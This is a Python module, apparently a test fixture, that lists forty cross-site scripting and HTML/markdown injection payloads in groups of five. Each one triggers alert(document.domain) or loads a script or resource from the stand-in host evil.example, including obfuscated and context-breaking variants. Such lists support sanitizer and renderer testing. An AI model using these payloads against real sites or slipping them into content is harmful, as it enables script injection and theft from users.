"""Forty ways to be more than text. Each says so with a dialog, or by asking evil.example for something."""

_RUN = "alert(document.domain)"
_OUT = "//evil.example/x"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<script src={_OUT}.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_OUT}.png>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script href={_OUT}.js></script></svg>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={_OUT}.mp3 autoplay onerror={_RUN}></audio>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<object data={_OUT}.swf></object>",
    f"<embed src={_OUT}.swf>",
    f"<link rel=stylesheet href={_OUT}.css>",
    f"<style>@import '{_OUT}.css'; body {{ background: url({_OUT}.gif) }}</style>",
    f"<base href=https:{_OUT}/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/x'>",
    f"<form action=https:{_OUT}><button autofocus>x</button></form>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<template><script>{_RUN}</script></template>",
    f'"><script>{_RUN}</script>',
    f"' onmouseover={_RUN} autofocus onfocus={_RUN} x='",
    f'" x-data x-init="{_RUN}" y="',
    f"<div x-data x-init='{_RUN}' x-effect='{_RUN}'></div>",
    f"<div hx-get={_OUT} hx-trigger=load></div>",
    f"</title></textarea></script></pre><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"[click](javascript:{_RUN})",
    f"![picture](https:{_OUT}.png)",
    f"[a]: javascript:{_RUN}\n[a][a] <javascript:{_RUN}>",
    f'```html"><script>{_RUN}</script>\n<script>{_RUN}</script>\n```',
    f"&lt;script&gt;{_RUN}&lt;/script&gt; %3Cscript%3E{_RUN}%3C/script%3E",
    f"\u202e<scr\u0000ipt>{_RUN}</script>{{{{ {_RUN} }}}}{{% debug %}}".replace("\u0000", "\u200b"),
)
TOGETHER = 5
GROUPS = ["\n".join(PAYLOADS[at : at + TOGETHER]) for at in range(0, len(PAYLOADS), TOGETHER)]
